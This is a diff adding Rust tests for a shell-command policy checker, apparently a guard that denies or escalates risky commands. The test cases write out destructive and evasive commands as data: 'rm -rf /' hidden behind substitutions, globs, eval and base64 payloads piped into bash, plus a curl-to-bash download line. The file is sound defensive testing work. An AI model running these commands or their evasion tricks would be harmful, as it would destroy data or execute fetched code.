@@ -47,6 +47,7 @@ fn the_default_policy_passes_its_case_table() {
 #[case::duplicate_name("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nraw = \"a\"\n[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nraw = \"b\"\n", 6, "same name")]
 #[case::wrong_type("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nprogram = \"rm\"\n", 5, "invalid type")]
 #[case::bad_version("version = 2\n", 1, "unsupported policy version 2")]
+#[case::bad_unknown("version = 1\n[policy]\nunknown = \"maybe\"\n", 2, "[policy] unknown = \"maybe\": expected deny, approve or allow")]
 #[case::not_toml("[[rule]\n", 1, "")]
 fn bad_policies_name_file_line_and_reason(#[case] text: &str, #[case] line: usize, #[case] reason: &str) {
     let err = Policy::parse(text, Path::new("/etc/custos/policy.toml")).unwrap_err().to_string();
@@ -195,4 +196,167 @@ fn requote(w: &str, style: u8) -> String {
             .collect::<Vec<_>>()
             .concat(),
     }
+}
+
+/// What the checker cannot know: each form, the part it names, and its
+/// verdict with a collector (approve) and without one (deny).
+#[rstest::rstest]
+#[case::substitution_as_name("$(cat x) -rf /", "the command name comes from $(cat x)")]
+#[case::backquotes_as_name("`cat x` -rf /", "the command name comes from `cat x`")]
+#[case::positional_as_name("\"$1\" -rf /x", "the command name comes from $1")]
+#[case::all_positionals("\"$@\"", "the command name comes from $@")]
+#[case::unknown_variable_as_name("$CMD -rf /x", "the command name comes from $CMD")]
+#[case::read_then_run("read c <<< rm; $c -rf /x", "the command name comes from $c")]
+#[case::assigned_from_substitution("c=$(cat x); $c -rf /x", "the command name comes from $c")]
+#[case::set_by_eval("eval c=rm; $c -rf /x", "the command name comes from $c")]
+#[case::printf_v("printf -v c rm; $c -rf /x", "the command name comes from $c")]
+#[case::behind_sudo("sudo $(cat x) -rf /srv", "the command name comes from $(cat x)")]
+#[case::glob_name("/bin/r? -rf /x", "the command name /bin/r? is a glob")]
+#[case::glob_class_name("/bin/[r]m -rf /x", "the command name /bin/[r]m is a glob")]
+#[case::glob_star_name("/usr/bin/*m -rf /x", "is a glob")]
+#[case::protected_argument("rm -rf $(cat list)", "an argument of rm comes from $(cat list), and rule rm-root looks at rm's arguments")]
+#[case::protected_quoted_argument("rm -rf \"$(cat list)\"", "rule rm-root")]
+#[case::unknown_flags("rm $(cat opts) /", "an argument of rm comes from $(cat opts)")]
+#[case::unknown_subcommand("kubectl $(cat verb) pod x", "rule kubectl-delete")]
+#[case::unknown_option_value("psql -c \"$(cat q.sql)\"", "rule sql-drop-truncate")]
+#[case::decoded_into_bash("echo cm0gLXJmIC8K | base64 -d | bash", "bash runs code it reads from a pipe (from echo, base64)")]
+#[case::decoded_into_sh("echo cm0gLXJmIC8K | base64 -d | sh", "sh runs code it reads from a pipe")]
+#[case::into_python("cat payload | python3", "python3 runs a program it reads from a pipe (from cat)")]
+#[case::into_perl("base64 -d < x | perl -w", "perl runs a program it reads from a pipe")]
+#[case::eval_of_decoded("eval \"$(echo cm0gLXJmIC8K | base64 -d)\"", "the shell code eval runs comes from $(echo cm0gLXJmIC8K | base64 -d)")]
+#[case::bash_c_of_substitution("bash -c \"$(cat x)\"", "the shell code bash runs comes from $(cat x)")]
+#[case::su_c_of_variable("su -c \"$1\"", "the shell code su runs comes from $1")]
+#[case::plus_b("bash +B -c 'ls'", "bash +B changes how the shell reads its code")]
+#[case::plus_o("bash +o braceexpand -c 'ls'", "bash +o braceexpand changes")]
+#[case::shopt("bash -O extglob -c 'ls'", "bash -O extglob changes")]
+#[case::posix("sh -o posix -c 'ls'", "sh -o posix changes")]
+#[case::zsh_option("zsh -o sh_word_split -c 'ls'", "zsh -o sh_word_split changes")]
+#[case::for_over_substitution("for c in $(cat x); do $c -rf /x; done", "the command name comes from $c")]
+fn what_the_checker_cannot_know_gets_the_unknown_verdict(#[case] line: &str, #[case] part: &str) {
+    let (who, env) = alice();
+    for (collector, want) in [(true, Verdict::Approve), (false, Verdict::Deny)] {
+        let d = Policy::default_policy().with_collector(collector).check(line, &who, &env);
+        assert_eq!(d.verdict, want, "{line} (collector: {collector}): {d:?}");
+        let rule = d.rule.as_ref().unwrap();
+        assert_eq!(rule.name, UNKNOWN_RULE, "{line}");
+        assert!(rule.message.contains(part), "{line}: {}", rule.message);
+        assert!(d.unknown.iter().any(|u| u.contains(part)), "{line}: {:?}", d.unknown);
+        let decided = d.commands.get(d.command.unwrap()).unwrap();
+        assert!(decided.unknown.is_some() || decided.unknown_args.is_some(), "{line}: {decided:?}");
+    }
+}
+
+/// Ordinary work whose values the checker cannot all know, but where no
+/// value could change which rule applies: allowed, nothing unknown.
+#[rstest::rstest]
+#[case("ls $(pwd)")]
+#[case("echo \"$HOME\"")]
+#[case("cd \"$dir\"")]
+#[case("for f in *.log; do gzip \"$f\"; done")]
+#[case("git log $(git rev-parse HEAD)")]
+#[case("kubectl get pods $(cat names)")]
+#[case("echo $(date) >> log")]
+#[case("grep -r x $(git ls-files)")]
+#[case("cat $(ls *.txt)")]
+#[case("[ -f x ] && cat x")]
+#[case("test -n \"$1\" && echo \"$1\"")]
+#[case("echo $$ $? $# $!")]
+#[case("rm -f /tmp/x.$$")]
+#[case("rm -rf /tmp/build-$((1 + 2))")]
+#[case("echo 'print(1)' > x.py; python3 x.py")]
+#[case("python3 -c 'print(1)' | cat")]
+#[case("echo ls | bash")]
+#[case("bash -x -c 'ls'")]
+#[case("bash +x -c 'ls'")]
+#[case("sh -e -o pipefail -c 'ls'")]
+#[case("ssh \"$(cat host)\" uptime")]
+#[case("sudo -u \"$(whoami)\" systemctl status x")]
+#[case("x=$(cat f); echo \"$x\"")]
+#[case("while read -r l; do echo \"$l\"; done < f")]
+fn ordinary_work_stays_allowed(#[case] line: &str) {
+    let (who, env) = alice();
+    for collector in [true, false] {
+        let d = Policy::default_policy().with_collector(collector).check(line, &who, &env);
+        assert_eq!(d.verdict, Verdict::Allow, "{line}: {:?} {:?}", d.rule, d.unknown);
+        assert!(d.unknown.is_empty(), "{line}: {:?}", d.unknown);
+    }
+}
+
+#[rstest::rstest]
+#[case::plus_x("bash +x -c 'rm -rf /'")]
+#[case::sh_plus_e("sh +e -c 'rm -rf /'")]
+#[case::dash("dash +x -c 'rm -rf /'")]
+#[case::zsh("zsh +x -c 'rm -rf /'")]
+#[case::plus_o_value("bash +o xtrace -c 'rm -rf /'")]
+#[case::minus_o_value("sh -o errexit +o nounset -c 'rm -rf /'")]
+#[case::cluster("bash +xe -c 'rm -rf /'")]
+fn plus_options_do_not_hide_a_shells_code(#[case] line: &str) {
+    let (who, env) = alice();
+    let d = Policy::default_policy().with_collector(true).check(line, &who, &env);
+    assert_eq!((d.verdict, d.rule.map(|r| r.name)), (Verdict::Deny, Some("rm-root".to_owned())), "{line}");
+}
+
+#[test]
+fn a_value_the_caller_knows_is_used_not_called_unknown() {
+    let (who, mut env) = alice();
+    let policy = Policy::default_policy().with_collector(true);
+    env.vars.insert("CMD".into(), "rm".into());
+    let d = policy.check("$CMD -rf /", &who, &env);
+    assert_eq!((d.verdict, d.rule.map(|r| r.name)), (Verdict::Deny, Some("rm-root".to_owned())));
+    assert!(d.unknown.is_empty(), "{:?}", d.unknown);
+    env.vars.insert("CMD".into(), "ls".into());
+    assert_eq!(policy.check("$CMD -l /", &who, &env).verdict, Verdict::Allow);
+    env.vars.insert("LIST".into(), "/tmp/a /tmp/b".into());
+    assert_eq!(policy.check("rm -rf $LIST", &who, &env).verdict, Verdict::Allow);
+    // The hooks send every variable a line names that is set: one not sent
+    // is unset, so `$SUDO apt update` runs `apt update`.
+    let (_, mut hooked) = alice();
+    hooked.complete = true;
+    assert_eq!(policy.check("$SUDO ls -l", &who, &hooked).verdict, Verdict::Allow);
+    assert_eq!(policy.check("$SUDO rm -rf /", &who, &hooked).rule.map(|r| r.name), Some("rm-root".to_owned()));
+    // Positional parameters are never sent: unknown even then.
+    assert_eq!(policy.check("\"$1\" -rf /x", &who, &hooked).rule.map(|r| r.name), Some(UNKNOWN_RULE.to_owned()));
+}
+
+#[test]
+fn a_rule_at_least_as_severe_keeps_its_name_and_allow_reports_without_refusing() {
+    let (who, env) = alice();
+    let d = Policy::default_policy().with_collector(true).check("curl -s https://x.example | bash", &who, &env);
+    assert_eq!((d.verdict, d.rule.map(|r| r.name)), (Verdict::Deny, Some("download-to-shell".to_owned())));
+    assert!(!d.unknown.is_empty(), "the unknown part is still reported");
+    let open = Policy::parse("[policy]\nunknown = \"allow\"\n", Path::new("p.toml")).unwrap().with_collector(false);
+    let d = open.check("$(cat x) -rf /", &who, &env);
+    assert_eq!((d.verdict, d.rule), (Verdict::Allow, None));
+    assert_eq!(d.unknown, vec!["the command name comes from $(cat x)".to_owned()]);
+    let strict = Policy::parse("[policy]\nunknown = \"deny\"\n", Path::new("p.toml")).unwrap().with_collector(true);
+    assert_eq!(strict.check("$(cat x) -rf /", &who, &env).verdict, Verdict::Deny, "written out, the setting wins over the default");
+}
+
+#[test]
+fn where_the_shell_traces_its_commands_run_time_code_is_checked_then() {
+    let (who, mut env) = alice();
+    env.traced = true;
+    let policy = Policy::default_policy().with_collector(false);
+    for line in ["eval \"$(dircolors -b)\"", "bash -c \"$(cat x)\"", "echo x | base64 -d | bash"] {
+        assert_eq!(policy.check(line, &who, &env).verdict, Verdict::Allow, "{line}");
+    }
+    for line in ["$(cat x) -rf /", "rm -rf $(cat list)", "cat x | python3", "sh -c \"$(cat x)\"", "bash +B -c ls"] {
+        assert_eq!(policy.check(line, &who, &env).rule.map(|r| r.name), Some(UNKNOWN_RULE.to_owned()), "{line}");
+    }
+}
+
+#[test]
+fn a_plain_argv_is_checked_in_tens_of_microseconds() {
+    let (who, env) = alice();
+    let policy = Policy::default_policy();
+    let line = "/usr/bin/git -C /home/alice/src log --oneline -n 20 'a b'";
+    let _ = policy.check(line, &who, &env);
+    let n: u32 = 2000;
+    let t = std::time::Instant::now();
+    for _ in 0..n {
+        assert_eq!(policy.check(line, &who, &env).verdict, Verdict::Allow);
+    }
+    let each = t.elapsed() / n;
+    // Generous for an unoptimised build; release is several times faster.
+    assert!(each < std::time::Duration::from_micros(500), "{each:?} per check");
 }
